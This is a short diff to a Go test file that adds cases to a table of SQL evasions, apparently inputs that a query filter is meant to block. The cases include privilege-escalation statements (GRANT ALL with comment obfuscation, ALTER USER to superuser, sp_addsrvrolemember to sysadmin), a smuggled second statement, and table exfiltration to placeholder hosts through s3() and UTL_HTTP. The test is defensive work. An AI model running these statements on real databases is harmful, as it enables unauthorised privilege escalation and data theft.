@@ -287,6 +287,13 @@ var evasions = []struct{ kind, text string }{
 	{"file", "SELECT 1;\n:r script.sql"},
 	{"file", "SELECT 1;\nspool /x"},
 	{"GRANT", "GRANT ALL ON t TO PUBLIC"},
+	{"admin", "GRANT/**/ALL ON *.* TO a"},
+	{"admin", "GRANT SELECT ON t TO PUBLIC"},
+	{"admin", "GRANT SELECT ON t TO a WITH GRANT OPTION"},
+	{"admin", "SELECT 1; alter user a superuser"},
+	{"admin", "EXEC sp_addsrvrolemember 'a', 'sysadmin'"},
+	{"file", "INSERT INTO FUNCTION s3('https://b/x', 'CSV') SELECT * FROM t"},
+	{"file", "SELECT UTL_HTTP.REQUEST('http://a/') FROM dual"},
 	{"REVOKE", "REVOKE ALL ON t FROM x"},
 }
 
